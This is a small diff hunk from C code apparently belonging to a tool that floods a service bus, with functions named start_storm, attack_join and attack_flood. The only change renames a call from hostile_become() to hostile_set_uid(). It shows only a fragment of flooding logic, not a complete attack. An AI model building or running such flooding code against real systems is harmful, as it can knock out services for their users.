@@ -15,7 +15,7 @@ void start_storm(void *argument)
         put_driver_call(&out, "StartServiceByName", "su", &body);
         put_signal(&out, attack_options.name, 16);
     }
-    hostile_become();
+    hostile_set_uid();
     attack_join(&c);
     process_ready();
     attack_flood(&c, &out, attack_options.count);
